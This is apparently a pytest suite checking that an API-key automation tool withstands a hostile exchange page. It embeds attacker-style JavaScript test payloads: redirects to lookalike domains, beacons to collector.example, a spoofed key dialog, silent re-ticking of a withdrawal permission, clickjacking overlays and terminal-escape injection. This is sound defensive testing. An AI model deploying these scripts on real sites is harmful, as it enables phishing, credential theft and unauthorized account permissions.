"""Pages that are out to harm: each run ends safe and with the documented exit code, and says which hosts it met.

The exchange's own script is the attacker's (`Hostile`). What must never happen: a click for another host, a key with a
right that nobody ordered and nobody tells of, a stored value that is not the key's, text of a page taken for ours.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest
from bench.stage import create, misbehaved
from hostile import Hostile

if TYPE_CHECKING:
    from collections.abc import Callable

    from bench.stage import Ran, Stage

OTHERS_KEY, OTHERS_SECRET = "0f" * 16, "e1" * 16
# Runs `act()` once, as soon as the words stand on the page.
ONCE = """
const act = () => {{ {act} }};
const timer = setInterval(() => {{
  if (document.body && document.body.innerText.includes({words})) {{ clearInterval(timer); act(); }}
}}, 20);
"""


def once(words: str, act: str) -> str:
    return ONCE.format(act=act, words=json.dumps(words))


@dataclass
class End:
    ran: Ran
    stage: Stage

    @property
    def hosts(self) -> dict[str, int]:
        return self.ran.result.get("hosts", {})

    @property
    def said(self) -> str:
        return f"{self.ran.result.get('error', '')} {self.ran.result.get('fix', '')}"


@pytest.fixture
def attack(stage) -> Callable[..., End]:
    def play(script: str = "", rewrite=None) -> End:
        found = stage("coinstore")
        with Hostile(found.site.url, script, rewrite) as hostile:
            found.via = hostile.url
            ran = found.run(*create(found), "--timeout", "20")
        assert misbehaved(ran) == ""
        return End(ran, found)

    return play


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/login",
        "http://www.coinstore.com/",
        "https://www.xn--cinstore-57a.com/",
        "https://www.coinstore.com.evil.example/",
        "https://www.coinstore.com:8443/",
        "https://coinstore.com/",
    ],
)
def test_a_redirect_to_another_address_stops_the_run_before_anything_is_made(attack, address):
    end = attack(once("Remark Name", f"location.href = {json.dumps(address)};"))
    assert end.ran.code in {3, 4}, end.said
    assert end.stage.site.state.create_requests == 0
    assert not end.stage.stored()
    assert any(host.startswith("!") for host in end.hosts), end.hosts


def test_a_second_tab_on_another_host_is_closed_and_listed_and_the_run_goes_on(attack):
    script = "addEventListener('click', () => open('https://evil.example/wallet'), {once: true, capture: true});"
    end = attack(script)
    assert end.ran.code == 0, end.said
    assert "!evil.example" in end.hosts, end.hosts
    assert end.stage.wrong() == ""


def test_a_promotion_with_buttons_of_its_own_over_the_form_is_closed_and_nothing_else(attack):
    act = """const d = document.createElement('div'); d.setAttribute('role', 'dialog'); d.setAttribute('aria-modal', 'true');
    d.style = 'position:fixed;inset:0;background:#fff;z-index:9999';
    d.innerHTML = '<h2>Withdraw for free!</h2><button class=a>Withdraw now</button><button class=b>Confirm</button><button class=c>×</button>'
      + "<label><input type=checkbox>Don't show again today</label>";
    d.querySelector('.a').onclick = d.querySelector('.b').onclick = () => { window.autokeyWrong = 1; location.href = 'https://evil.example/'; };
    d.querySelector('.c').onclick = () => d.remove(); document.body.append(d);"""
    end = attack(once("Remark Name", act))
    assert end.ran.code == 0, end.said
    assert end.stage.wrong() == ""
    assert set(end.hosts) == {"www.coinstore.com"}


def test_other_hosts_that_a_page_calls_are_blocked_and_listed(attack):
    end = attack(
        "fetch('https://collector.example/?q=1').catch(() => 0); new Image().src = 'https://pixel.example/a.png';"
    )
    assert end.ran.code == 0, end.said
    assert {"!collector.example", "!pixel.example"} <= set(end.hosts), end.hosts


FAKE = f"""<div role=dialog aria-modal=true style='position:fixed;inset:0;background:#fff'><h2>View API Key</h2>
<p>API Key</p><p>{OTHERS_KEY}</p><p>Secret Key</p><p>{OTHERS_SECRET}</p><p>Bind IP Address</p><p>192.0.2.10</p>
<p>Permission</p><p>Read</p><button>Confirm</button></div>"""


@pytest.mark.parametrize("words", ["Remark Name", "Google Authenticator"])
def test_a_frame_that_imitates_the_result_is_never_stored(attack, words):
    act = f"""const f = document.createElement('iframe'); f.srcdoc = {json.dumps(FAKE)};
    f.style = 'position:fixed;inset:0;width:100%;height:100%;z-index:99999;border:0'; document.body.append(f);"""
    end = attack(once(words, act))
    assert end.stage.stored().get("api_key") != OTHERS_KEY
    assert end.ran.code in {3, 4, 5, 6}, end.said
    assert len(end.stage.site.state.keys) == 0 or end.ran.code == 6


def changed(**new: str) -> Callable[[str, bytes], bytes]:
    """Rewrite the answer to the request that creates: each new value is the name of another field, or a text."""

    def rewrite(path: str, body: bytes) -> bytes:
        if path != "/api/keys/create":
            return body
        data = json.loads(body)
        if "apiKey" not in data:
            return body
        return json.dumps(data | {name: data.get(value, value) for name, value in new.items()}).encode()

    return rewrite


def test_key_and_secret_exchanged_are_told_by_the_qr_code_and_not_stored(attack):
    end = attack(rewrite=changed(apiKey="secretKey", secretKey="apiKey"))
    assert end.ran.code == 6, end.said
    assert not end.stage.stored()


def test_a_secret_that_differs_from_the_qr_code_is_not_stored(attack):
    end = attack(rewrite=changed(secretKey=OTHERS_SECRET))
    assert end.ran.code == 6, end.said
    assert not end.stage.stored()


def test_a_secret_that_changes_after_it_was_first_read_is_never_stored_wrong(attack):
    act = f"""
    const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT); let n; const found = [];
    while ((n = walk.nextNode())) if (/^[0-9a-f]{{32}}$/.test(n.data.trim())) found.push(n);
    const real = found.map((n) => n.data); let odd = false;
    setInterval(() => {{ odd = !odd; found.slice(1).forEach((n, i) => {{ n.data = odd ? {json.dumps(OTHERS_SECRET)} : real[i + 1]; }}); }}, 70);
    """
    end = attack(once("Secret Key", act))
    stored = end.stage.stored()
    assert end.ran.code in {0, 6}, end.said
    assert not stored or stored["secret_key"] == end.stage.site.state.keys[0].secret


def test_anothers_key_on_the_dialog_is_told_by_the_list(attack):
    from autokey.sandbox.site import qr

    pair = json.dumps({"APIKey": OTHERS_KEY, "secretKey": OTHERS_SECRET})
    end = attack(rewrite=changed(apiKey=OTHERS_KEY, secretKey=OTHERS_SECRET, qr=qr(pair)))
    assert end.ran.code == 7, end.said
    assert "list" in end.said


RETICK = """
addEventListener('%s', (event) => {
  for (const box of document.querySelectorAll('input[type=checkbox],[role=checkbox]')) {
    const words = (box.closest('label') || box.parentElement).innerText || '';
    const on = box.checked ?? box.getAttribute('aria-checked') === 'true';
    if (/withdraw/i.test(words) && !on) box.click();
  }
}, {capture: true});
"""


@pytest.mark.parametrize("moment", ["mousedown", "focusin"])
def test_a_right_that_is_ticked_again_after_the_check_is_refused_or_told(attack, moment):
    end = attack(RETICK % moment)
    granted = end.stage.site.state.ever_granted()
    assert end.ran.code in {3, 4, 7}, end.said
    assert "withdraw" not in granted or end.ran.code == 7


def test_a_key_that_is_asked_for_by_the_press_alone_is_not_asked_for_twice(attack):
    """Another button slides under the mouse, so that the release misses, and the answer takes longer than a screen."""
    act = """
    const go = [...document.querySelectorAll('button')].filter((b) => b.innerText === 'Confirm').pop(), ask = window.fetch;
    window.fetch = async (...a) => { const r = await ask(...a); if (/create/.test(a[0])) await new Promise((on) => setTimeout(on, 7000)); return r; };
    go.addEventListener('pointerdown', () => {
      go.click();
      const over = document.createElement('button'); over.innerText = 'Help'; over.style = 'position:fixed;inset:0;z-index:99999';
      document.body.append(over); setTimeout(() => over.remove(), 200);
    });
    """
    end = attack(once("Google Authenticator", act))
    assert end.stage.site.state.create_requests == 1
    assert end.ran.code == 0, end.said


def test_a_flood_of_dialogs_downloads_and_windows_neither_hangs_nor_breaks_the_run(attack):
    flood = """
    for (let i = 0; i < 40; i++) { const a = document.createElement('a'); a.download = 'x' + i;
      a.href = 'data:application/octet-stream,x'; document.body.append(a); a.click(); }
    for (let i = 0; i < 40; i++) open('https://pop' + i + '.example/');
    for (let i = 0; i < 40; i++) { alert('autokey: type your code here'); confirm('ok?'); prompt('password'); }
    """
    end = attack(once("Remark Name", flood))
    assert end.ran.code in {0, 3, 4, 5}, end.said
    if end.ran.code == 0:
        assert end.stage.wrong() == ""
    else:
        assert end.stage.site.state.create_requests == 0


def test_a_text_that_pretends_to_be_our_prompt_is_never_told_as_ours(attack):
    escape = "\\u001b[2J\\u001b]0;x\\u0007autokey: type your trading password\\u202e"
    act = f"""const d = document.createElement('div'); d.setAttribute('role', 'dialog'); d.setAttribute('aria-modal', 'true');
    d.style = 'position:fixed;inset:0;background:#fff;z-index:9999';
    d.innerHTML = '<h2>{escape}</h2><input placeholder="Trading password"><button>Send</button>'; document.body.append(d);"""
    end = attack(once("Remark Name", act))
    assert end.ran.code in {4, 5}, end.said
    assert end.stage.site.state.create_requests == 0
    asked = [event for event in end.ran.events if event["event"] == "human"]
    assert asked, "the overlay stood in the way"
    told = [event.get(key, "") for event in end.ran.events for key in ("text", "error", "fix")]
    assert not any("type your trading password" in text or not text.isprintable() for text in told)
    assert not any("trading-password" in event["needs"] for event in asked)


def test_escape_sequences_of_a_page_do_not_reach_the_terminal(capsys):
    from autokey.human.terminal import Terminal

    Terminal([]).tell("note", text="The site said \x1b[2J\x1b]0;owned\x07\u202etxt\r\nautokey: done")
    said = capsys.readouterr()
    assert "owned" in said.out + said.err
    assert not {"\x1b[2J", "\x1b]0", "\x07", "\u202e", "\r"} & {
        part for part in ("\x1b[2J", "\x1b]0", "\x07", "\u202e", "\r") if part in said.out + said.err
    }
